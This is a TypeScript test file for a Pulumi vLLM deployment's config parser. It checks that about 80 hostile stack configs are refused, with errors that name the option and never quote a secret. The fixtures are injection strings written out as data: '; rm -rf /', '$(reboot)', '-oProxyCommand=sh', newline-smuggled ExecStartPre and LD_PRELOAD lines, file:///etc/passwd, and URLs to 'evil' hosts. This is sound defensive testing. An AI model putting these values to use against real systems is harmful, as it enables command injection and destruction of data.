// Stack configs a careless or hostile user could write, each of which must be refused before anything
// reaches the workstation, with a message that names the option and never quotes a secret.
import test from "ava";
import { ConfigError, parseConfig } from "../../components/config/schema";
import { rawFromPulumiConfig } from "../../components/config/stackFiles";

const revision = "0123456789abcdef0123456789abcdef01234567";
const ed25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f";
const rsaBlob = "AAAAB3NzaC1yc2EAAAAgAAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";

interface Hostile {
    /** What the config tries, as the test's title says it. */
    readonly what: string;
    /** The option a problem must start with. */
    readonly option: string;
    /** The stack config as parseConfig reads it, the model revision added... */
    readonly raw?: Record<string, unknown>;
    /** ...or as the engine hands it to the program: `project:key -> string`. */
    readonly pulumi?: Record<string, string>;
    /** Text that must not appear anywhere in the error (a secret, a credential). */
    readonly secret?: string;
    /** More the problem must say (a suggestion, the reason). */
    readonly says?: RegExp;
}

const hostile: Hostile[] = [
    // Paths that would change the shape of a file or a command.
    { what: "a newline in cuda.home that adds LD_PRELOAD to the service's environment", option: "cuda.home", raw: { cuda: { home: "/usr/local/cuda\nLD_PRELOAD=/lib/x86_64-linux-gnu/libz.so.1" } }, says: /holds a newline/ },
    { what: "a colon in cuda.wslLibDir that adds a directory to LD_LIBRARY_PATH", option: "cuda.wslLibDir", raw: { cuda: { wslLibDir: "/usr/lib/wsl/lib:/srv/evil" } }, says: /holds ":"/ },
    { what: "a venvPath that adds its own root ExecStartPre=+ line to the unit", option: "python.venvPath", raw: { python: { venvPath: "/opt/v\nExecStartPre=+/bin/sh -c id" } } },
    { what: "a venvPath that climbs out with ..", option: "python.venvPath", raw: { python: { venvPath: "/opt/vllm/../../etc" } }, says: /no "\.\." segment/ },
    { what: "a command substitution in venvPath", option: "python.venvPath", raw: { python: { venvPath: "/opt/$(reboot)" } }, says: /holds "\$"/ },
    { what: "backticks in venvPath", option: "python.venvPath", raw: { python: { venvPath: "/opt/`id`" } } },
    { what: "a space in venvPath that splits ExecStart's arguments", option: "python.venvPath", raw: { python: { venvPath: "/opt/my venv" } }, says: /holds a space/ },
    { what: "a single quote in venvPath", option: "python.venvPath", raw: { python: { venvPath: "/opt/it's" } } },
    { what: "a systemd specifier in venvPath", option: "python.venvPath", raw: { python: { venvPath: "/opt/v%h" } }, says: /holds "%"/ },
    { what: "a semicolon in venvPath that ends ExecStart's command", option: "python.venvPath", raw: { python: { venvPath: "/opt/v;/bin/sh" } } },
    { what: "a unicode lookalike of / in venvPath", option: "python.venvPath", raw: { python: { venvPath: "/opt/vllm\u2215etc" } }, says: /U\+2215/ },
    { what: "fullwidth dots that look like .. in cacheDir", option: "model.cacheDir", raw: { model: { revision, cacheDir: "/srv/\uff0e\uff0e/hf" } } },
    { what: "a trailing slash in venvPath", option: "python.venvPath", raw: { python: { venvPath: "/opt/v/" } } },
    { what: "a doubled slash in cuda.home", option: "cuda.home", raw: { cuda: { home: "//usr/local/cuda" } } },
    { what: "a relative cacheDir", option: "model.cacheDir", raw: { model: { revision, cacheDir: "hf" } }, says: /absolute/ },
    // Directories the stack would own, and destroy would remove, that are never the stack's.
    { what: "the whole disk as the venv", option: "python.venvPath", raw: { python: { venvPath: "/" } } },
    { what: "/usr/local as the venv", option: "python.venvPath", raw: { python: { venvPath: "/usr/local" } } },
    { what: "/srv as the venv", option: "python.venvPath", raw: { python: { venvPath: "/srv" } }, says: /shared root/ },
    { what: "/boot as the venv", option: "python.venvPath", raw: { python: { venvPath: "/boot" } } },
    { what: "the user's Windows profile under /mnt/c as the venv", option: "python.venvPath", raw: { python: { venvPath: "/mnt/c/Users/me/venv" } } },
    { what: "root's ssh keys as the venv", option: "python.venvPath", raw: { python: { venvPath: "/root/.ssh" } } },
    { what: "sshd's configuration as the venv", option: "python.venvPath", raw: { python: { venvPath: "/etc/ssh" } } },
    { what: "a home directory as the venv", option: "python.venvPath", raw: { python: { venvPath: "/home/dev" } } },
    { what: "a folder in a home directory as the venv", option: "python.venvPath", raw: { python: { venvPath: "/home/dev/work" } } },
    { what: "/var/lib as the model cache", option: "model.cacheDir", raw: { model: { revision, cacheDir: "/var/lib" } } },
    { what: "/tmp as the model cache", option: "model.cacheDir", raw: { model: { revision, cacheDir: "/tmp/hf" } } },
    { what: "/proc as the model cache", option: "model.cacheDir", raw: { model: { revision, cacheDir: "/proc/self" } } },
    { what: "the service's own cache directory as the model cache", option: "model.cacheDir", raw: { model: { revision, cacheDir: "/var/cache/vllm-workstation/hf" } } },
    { what: "a model cache that is the venv's tools directory", option: "model.cacheDir", raw: { python: { venvPath: "/srv/a" }, model: { revision, cacheDir: "/srv/a-tools" } }, says: /overlaps python\.venvPath/ },
    { what: "a lock file outside the project through ..", option: "python.lockFile", raw: { python: { lockFile: "../secret.txt" } } },
    { what: "a lock file at an absolute path", option: "python.lockFile", raw: { python: { lockFile: "/etc/shadow" } } },
    // Hosts, users and keys on the ssh command line and in known_hosts.
    { what: "a private key path with a shell command", option: "target.privateKeyPath", raw: { target: { kind: "ssh", host: "ws1", privateKeyPath: "~/.ssh/id; rm -rf ~" } } },
    { what: "a host with a space", option: "target.host", raw: { target: { kind: "ssh", host: "ws 1" } } },
    { what: "a host that ssh would read as an option", option: "target.host", raw: { target: { kind: "ssh", host: "-oProxyCommand=sh" } } },
    { what: "a host with a newline", option: "target.host", raw: { target: { kind: "ssh", host: "ws1\nevil" } } },
    { what: "a login user with a newline", option: "target.user", raw: { target: { kind: "ssh", host: "ws1", user: "admin\nroot" } } },
    { what: "a login user that ssh would read as an option", option: "target.user", raw: { target: { kind: "ssh", host: "ws1", user: "-oProxyCommand" } } },
    { what: "a host key with a second known_hosts line", option: "target.hostKey", raw: { target: { kind: "ssh", host: "ws1", hostKey: `${ed25519}\n@cert-authority * ${ed25519}` } }, says: /holds a newline/ },
    { what: "a host key whose blob is another type's", option: "target.hostKey", raw: { target: { kind: "ssh", host: "ws1", hostKey: `ssh-ed25519 ${rsaBlob}` } }, says: /not a ssh-ed25519 key/ },
    { what: "a host key of an unknown type", option: "target.hostKey", raw: { target: { kind: "ssh", host: "ws1", hostKey: `ssh-foo ${rsaBlob}` } } },
    { what: "root as the service user", option: "server.user", raw: { server: { user: "root" } } },
    { what: "a service user with shell metacharacters", option: "server.user", raw: { server: { user: "vllm;id" } } },
    { what: "a listen address with a flag after it", option: "server.host", raw: { server: { host: "0.0.0.0 --trust-remote-code" } } },
    { what: "a listen address with an IPv6 zone", option: "server.host", raw: { server: { host: "fe80::1%eth0" } } },
    { what: "the IPv6 wildcard without an API key", option: "apiKey", raw: { server: { host: "0:0:0:0:0:0:0:0" } }, says: /not loopback/ },
    // Model names, images and patterns.
    { what: "a repository that climbs out of the cache", option: "model.repo", raw: { model: { revision, repo: "openai/../../etc" } } },
    { what: "a repository with a newline", option: "model.repo", raw: { model: { revision, repo: "openai/gpt-oss-20b\nx" } } },
    { what: "a repository with -- that the cache's folder name cannot hold", option: "model.repo", raw: { model: { revision, repo: "a--b/c" } } },
    { what: "a served model name with a newline that adds a YAML key", option: "server.servedModelName", raw: { server: { servedModelName: "gpt\nhost: 0.0.0.0" } } },
    { what: "a served model name with a double quote", option: "server.servedModelName", raw: { server: { servedModelName: 'gpt" --api-key x' } } },
    { what: "a served model name that reads as a flag", option: "server.servedModelName", raw: { server: { servedModelName: "--trust-remote-code" } } },
    { what: "a Docker image with a flag after it", option: "dockerImage", raw: { dockerImage: "vllm/vllm-openai:v0.11.0 --privileged" } },
    { what: "a Docker image with a command substitution", option: "dockerImage", raw: { dockerImage: "vllm/vllm-openai:$(id)" } },
    { what: "an exclude pattern that climbs out of the repository", option: "model.exclude.0", raw: { model: { revision, exclude: ["../../*"] } } },
    { what: "an exclude pattern with quotes and a command", option: "model.exclude.1", raw: { model: { revision, exclude: ["original/*", "*' ; rm -rf / ; '"] } } },
    { what: "a tiktoken file name that climbs out of its directory", option: "model.tiktoken.files", raw: { model: { revision, tiktoken: { files: { "../../etc/cron.d/x.tiktoken": "0".repeat(64) } } } } },
    { what: "a tiktoken file name with a newline", option: "model.tiktoken.files", raw: { model: { revision, tiktoken: { files: { "o200k_base.tiktoken\nx.tiktoken": "0".repeat(64) } } } } },
    { what: "a tiktoken checksum that is not a sha256", option: "model.tiktoken.files.o200k_base.tiktoken", raw: { model: { revision, tiktoken: { files: { "o200k_base.tiktoken": "$(id)" } } } } },
    // URLs.
    { what: "a file:// package index", option: "python.indexUrl", raw: { python: { indexUrl: "file:///etc/passwd" } }, says: /http:\/\/ or https:\/\// },
    { what: "a javascript: Hub endpoint", option: "model.endpoint", raw: { model: { revision, endpoint: "javascript:alert(1)" } } },
    { what: "an extra index with a newline and another option", option: "python.extraIndexUrls.0", raw: { python: { extraIndexUrls: ["https://pypi.org/simple\n--index-url http://evil"] } } },
    { what: "a tiktoken base URL with a space", option: "model.tiktoken.baseUrl", raw: { model: { revision, tiktoken: { baseUrl: "https://evil.example/ x" } } } },
    { what: "a package index URL with a quote, its credentials unshown", option: "python.indexUrl", raw: { python: { indexUrl: "https://user:s3cr3t-pass@pypi.internal/simple'; curl evil" } }, secret: "s3cr3t-pass" },
    { what: "an ftp:// Hub mirror, its credentials unshown", option: "model.endpoint", raw: { model: { revision, endpoint: "ftp://hf:token123-secret@mirror.lan/" } }, secret: "token123-secret" },
    { what: "credentials with an unencoded $ in a package index, not shown", option: "python.indexUrl", raw: { python: { indexUrl: "https://u:pa$$word-secret@pypi.internal/simple" } }, secret: "pa$$word-secret" },
    { what: "credentials in a package index without a scheme, not shown", option: "python.indexUrl", raw: { python: { indexUrl: "user:hunter2-secret@pypi.org/simple" } }, secret: "hunter2-secret" },
    { what: "credentials with a space in an extra index, not shown", option: "python.extraIndexUrls.0", raw: { python: { extraIndexUrls: ["https://u:pass word-secret@pypi.internal/simple"] } }, secret: "word-secret" },
    { what: "a URL without a host", option: "python.indexUrl", raw: { python: { indexUrl: "http://" } } },
    // Ports and versions.
    { what: "a port with a command after it", option: "server.port", raw: { server: { port: "8000; rm -rf /" } } },
    { what: "ssh port 0", option: "target.port", raw: { target: { kind: "ssh", host: "ws1", port: 0 } } },
    { what: "a vLLM version with an extra index after it", option: "python.vllmVersion", raw: { python: { vllmVersion: "0.11.0 --extra-index-url http://evil" } } },
    { what: "a uv version with a command substitution", option: "python.uvVersion", raw: { python: { uvVersion: "0.9.5$(id)" } } },
    { what: "a Python version with a trailing newline", option: "python.version", raw: { python: { version: "3.12\n" } } },
    // Typos, which would otherwise be dropped silently.
    { what: "model.keepOnDestory, a typo that would delete the model the user meant to keep", option: "model.keepOnDestory", raw: { model: { revision, keepOnDestory: true } }, says: /did you mean keepOnDestroy\?/ },
    { what: "server.prot", option: "server.prot", raw: { server: { prot: 8001 } }, says: /did you mean port\?/ },
    { what: "gpu.maxModelLength", option: "gpu.maxModelLength", raw: { gpu: { maxModelLength: 8192 } }, says: /did you mean maxModelLen\?/ },
    { what: "target.hostkey", option: "target.hostkey", raw: { target: { kind: "ssh", host: "ws1", hostkey: ed25519 } }, says: /did you mean hostKey\?/ },
    { what: "a tiktoken option under the wrong name", option: "model.tiktoken.baseURL", raw: { model: { revision, tiktoken: { baseURL: "https://x.example/" } } }, says: /did you mean baseUrl\?/ },
    { what: "an ssh option on a local target", option: "target.host", raw: { target: { kind: "local", host: "ws1" } } },
    { what: "an API key set under a mistyped name, its value unshown", option: "apikey", raw: { apikey: "sk-mistyped-secret-0123456789" }, secret: "sk-mistyped-secret", says: /did you mean apiKey\?/ },
    { what: "a key that only the object prototype has", option: "toString", raw: { toString: "x" } },
    // Secrets, as the engine hands them over.
    { what: "an API key that looks like a JSON array", option: "apiKey", pulumi: { "vllm-workstation:apiKey": "[sk-secret-abcdef-123456]" }, secret: "sk-secret-abcdef" },
    { what: "an API key that looks like a JSON object", option: "apiKey", pulumi: { "vllm-workstation:apiKey": '{"k":"sk-secret-json-value"}' }, secret: "sk-secret-json-value" },
    { what: "an API key that is valid JSON text for a number list", option: "apiKey", pulumi: { "vllm-workstation:apiKey": "[1234567890123456, 99]" }, secret: "1234567890123456" },
    { what: "an API key with a newline that adds a variable to the secrets file", option: "apiKey", raw: { apiKey: "sk-0123456789abcdef\nVLLM_ALLOW_X=1" }, secret: "sk-0123456789abcdef" },
    { what: "a Hugging Face token with a newline that adds an HTTP header", option: "hfToken", raw: { hfToken: "hf_secretTokenValue\nX-Evil: 1" }, secret: "hf_secretTokenValue" },
    { what: "a Hugging Face token with a quote", option: "hfToken", pulumi: { "vllm-workstation:hfToken": "{hf_secret'quoted" }, secret: "hf_secret" },
];

function refusal(h: Hostile): ConfigError {
    const raw = h.pulumi ? { model: { revision }, ...rawFromPulumiConfig(h.pulumi, "vllm-workstation") } : { ...h.raw, model: h.raw?.model ?? { revision } };
    try {
        parseConfig(raw);
    } catch (e) {
        if (e instanceof ConfigError) return e;
        throw e;
    }
    throw new Error(`${h.what}: the config was accepted`);
}

test("there are at least 40 hostile configs, each about something else", (t) => {
    t.true(hostile.length >= 40);
    t.is(new Set(hostile.map((h) => h.what)).size, hostile.length);
});

for (const h of hostile) {
    test(`${h.what} is refused, naming ${h.option}${h.secret ? " and quoting no secret" : ""}`, (t) => {
        const e = refusal(h);
        const problem = e.problems.find((p) => p.startsWith(`${h.option}: `));
        t.truthy(problem, `no problem names ${h.option}:\n${e.message}`);
        if (h.says) t.regex(problem!, h.says);
        if (h.secret) t.false(e.message.includes(h.secret), e.message);
        // The problem is one line: a newline in a value is shown escaped, never taken as the next line.
        t.false(problem!.includes("\n"));
    });
}
